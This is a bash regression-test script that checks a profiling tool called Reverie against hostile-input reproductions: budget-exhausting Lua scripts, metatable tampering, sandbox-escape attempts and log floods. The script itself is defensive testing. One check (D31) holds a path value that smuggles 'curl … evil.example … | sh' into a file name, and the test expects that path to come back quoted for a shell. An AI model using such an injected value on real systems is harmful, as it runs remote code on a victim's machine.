#!/usr/bin/env bash
# Runs the minimal reproductions of issue 29 (hostile input, round 2: D20 to
# D33 and three left from round 1) from $REVERIE_RELIABILITY/round2 (default:
# ../shared/reliability/round2 beside the source tree) and checks that each
# now gets a right answer or one line and exit status 2, within a timeout
# (the budget), under a virtual-memory limit (the cap; release builds only,
# ASan reserves terabytes of address space), and that no input is modified.
# Never copies them into the repository.
#
# Usage: run_reproductions_round2.sh REVERIE_BINARY SOURCE_DIR [sanitized]
# Exit: 0 all passed, 1 a check failed, 77 skipped (no reproductions).
set -uo pipefail

reverie=$(realpath "$1")
src=$(realpath "$2")
sanitized=${3:-}
base=${REVERIE_RELIABILITY:-$(realpath -m "$src/../shared/reliability")}
repro="$base/round2"
if [ ! -d "$repro" ]; then
  echo "SKIPPED: no round-2 reproductions at $repro (set REVERIE_RELIABILITY)"
  exit 77
fi
example="$src/examples/tiny_mlp_training.json"
build=$(dirname "$(dirname "$reverie")")
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
before=$(cd "$repro" && find . -maxdepth 1 -type f -exec sha256sum {} + | sort | sha256sum)

# shellcheck source=repro_lib.sh
source "$(dirname "$0")/repro_lib.sh"

predict() { echo "$reverie" predict "$example" --json --script "$@"; }
vlimit_kb=$((1536 * 1024))  # 1.5 GiB of address space

# ---- D20: handles' metatables --------------------------------------------
for s in gc_via_task_metatable gc_via_graph_metatable gc_via_timeline_metatable \
         gc_via_metatable_in_policy; do
  expect_refusal D20 "$s" "is locked" $(predict "$s.lua" --lua-budget 1000000)
done

# ---- D21: negative charges -------------------------------------------------
for s in budget_refund_table_move budget_refund_table_unpack budget_refund_len; do
  expect_refusal D21 "$s" "$s.lua:" $(predict "$s.lua" --lua-budget 1000000)
  [[ "$err" == *"instruction budget of 1000000 VM instructions exceeded"* ]] ||
    report D21 "$s budget" 0 "expected the budget's message"
done

# ---- D22: a module path of 100,000 levels ------------------------------------
if command -v python3 >/dev/null; then
  for n in 30000 100000; do
    python3 "$repro/gen_deep_module_path.py" "$n" "$work/dm$n.json" >/dev/null
    run D22 "deep_module_path $n" "$reverie" info "$work/dm$n.json"
    if [ "$rc" -eq 0 ] && [[ "$out" == *module_path_out_of_range* ]]; then
      report D22 "deep_module_path $n" 1 ""
    else
      report D22 "deep_module_path $n" 0 "expected exit 0 and module_path_out_of_range counted"
    fi
    # amp.lua with fixed factors: the file names no GPU for the cost model.
    expect_answer D22 "deep_module_path $n predict" \
      "$reverie" predict "$work/dm$n.json" --json --script "$src/scripts/amp.lua" \
      --set compute_speedup=3 --set memory_speedup=2
  done
fi

# ---- D23: string work in the VM ----------------------------------------------
expect_refusal D23 concat_quadratic "instruction budget of 2000000" \
  $(predict concat_quadratic.lua --lua-budget 2000000 --set n=400000)
expect_refusal D23 concat_loop_unbounded "instruction budget of 100000000" \
  $(predict concat_loop_unbounded.lua --lua-budget 100000000)
expect_refusal D23 string_compare_bypass "string_compare_bypass.lua" \
  $(predict string_compare_bypass.lua --lua-budget 100000000)

# ---- D24: bindings that hash or compile long strings -------------------------
expect_refusal D24 layer_dots_quadratic "layer path" \
  $(predict layer_dots_quadratic.lua --lua-budget 1000000 --set kb=200)
expect_refusal D24 name_rehash "name_rehash.lua" \
  $(predict name_rehash.lua --lua-budget 10000000 --set reps=1000)
# Names below the longest string a script may make: the sets are charged.
expect_refusal D24 "name_rehash 8 MiB" "instruction budget of 10000000" \
  $(predict name_rehash.lua --lua-budget 10000000 --set reps=1000 --set mb=8)
expect_refusal D24 sel_name_list_bomb "patterns of one query" \
  $(predict sel_name_list_bomb.lua --set n=1000 --lua-memory-mb 256)

# ---- D25: remove on a hub ------------------------------------------------------
expect_refusal D25 remove_hub_quadratic "memory limit of 64 MiB exceeded" \
  $(predict remove_hub_quadratic.lua --set n=6000 --lua-memory-mb 64 --lua-budget 100000000)

# ---- D27: steps of 0 us --------------------------------------------------------
expect_refusal D27 zero_step_speedup "takes 0 us" \
  "$reverie" predict zero_step_speedup.json --script amp
for s in remove_all_but_marks remove_all_iter_neg; do
  expect_refusal D27 "$s" "takes 0 us" "$reverie" predict "$example" --script "$s.lua"
done

# ---- D28: RE2's own log --------------------------------------------------------
expect_refusal D28 re2_log_flood "re2_log_flood.lua" $(predict re2_log_flood.lua --set n=20)

# ---- D29: one trace per rank -------------------------------------------------------
run_dir=$src expect_refusal D29 ranks_duplicate "given for ranks 0 and 2" \
  "$reverie" ranks examples/ddp_rank0.json examples/ddp_rank1.json examples/ddp_rank0.json

# ---- D30: two outputs, one file ------------------------------------------------------
run D30 same_output "$reverie" report "$example" -o "$work/same.html" --timeline "$work/same.html"
if one_line "two outputs" && [ ! -e "$work/same.html" ]; then report D30 same_output 1 ""; else
  report D30 same_output 0 "expected one line, exit 2 and nothing written"
fi

# ---- D31: control characters and pasted paths ------------------------------------------
run D31 error_ansi "$reverie" predict "$example" --script error_ansi.lua
if [ "$rc" -eq 2 ] && ! grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$work/err"; then
  report D31 error_ansi 1 ""
else
  report D31 error_ansi 0 "expected exit 2 and no control character on stderr"
fi
run D31 pb_source_path_command "$reverie" info pb_source_path_command.pb
if one_line "reverie import 'x.json; curl -s https://evil.example/x | sh #' -o OUT.pb"; then
  report D31 pb_source_path_command 1 ""
else
  report D31 pb_source_path_command 0 "expected the recorded path quoted for a shell"
fi

# ---- D33: a sync amp.lua cannot order ---------------------------------------------------
run D33 amp_cycle_corr_swap "$reverie" predict amp_cycle_corr_swap.json --script amp
if [ "$rc" -eq 0 ] && [[ "$out" == *"add_edge: skipped sync dependency"* ]]; then
  report D33 amp_cycle_corr_swap 1 ""
else
  report D33 amp_cycle_corr_swap 0 "expected exit 0 and the skipped sync logged"
fi

# ---- left from round 1 ---------------------------------------------------------------------
if [ -w /dev/full ]; then
  expect_refusal R1 import_dev_full "/dev/full: write failed" \
    "$reverie" import "$example" -o /dev/full
fi
mkdir "$work/chakra"
run R1 export_folder "$reverie" export "$example" --chakra "$work/chakra/"
if one_line "is a folder" && [ -z "$(ls -A "$work/chakra")" ]; then report R1 export_folder 1 ""; else
  report R1 export_folder 0 "expected a refusal and no hidden file"
fi

# ---- D26, D32: the Python module (release builds: the sanitizer runtimes
# are preloaded by the module's own tests) ----------------------------------------------------
if [ -z "$sanitized" ] && command -v python3 >/dev/null && [ -d "$build/python/reverie" ]; then
  vlimit_kb=
  export PYTHONPATH="$build/python" REVERIE_BUILD_DIR="$build"
  run_dir=$work run D26 python_sandbox_none bash -c "cd '$src' && exec python3 '$repro/python_sandbox_none.py'"
  if [ "$rc" -ne 0 ] && [[ "$err" == *"sandbox must be True or False"* ]] &&
     [ ! -e "$src/reverie_sandbox_none_escape" ]; then
    report D26 python_sandbox_none 1 ""
  else
    report D26 python_sandbox_none 0 "expected TypeError and no file written"
    rm -f "$src/reverie_sandbox_none_escape"
  fi
  run_dir=$work run D32 python_misc bash -c "cd '$src' && exec python3 '$repro/python_misc.py'"
  ok=1
  for want in "top=-1 -> ValueError" "path with NUL -> ValueError" "Script(name=5) -> TypeError" \
              "error -> ValueError" "ranks(str) -> TypeError" "predict(dict) -> TypeError"; do
    [[ "$out" == *"$want"* ]] || ok=0
  done
  if [ "$rc" -eq 0 ] && [ "$ok" = 1 ]; then report D32 python_misc 1 ""; else
    report D32 python_misc 0 "expected a clear Python error for each case; got: $out"
  fi
fi

# ---- every reproduction in the folder has a check --------------------------
every_reproduction_named "$0" $(cd "$repro" && find . -maxdepth 1 -type f -not -name README.md -printf '%f\n')

# ---- what held stays held ---------------------------------------------------------------
after=$(cd "$repro" && find . -maxdepth 1 -type f -exec sha256sum {} + | sort | sha256sum)
rc=0
if [ "$before" = "$after" ]; then report held inputs_unmodified 1 ""; else
  report held inputs_unmodified 0 "a reproduction file changed"
fi

if [ "$failures" -gt 0 ]; then
  echo "$failures round-2 reproduction check(s) failed"
  exit 1
fi
echo "all round-2 reproduction checks passed"
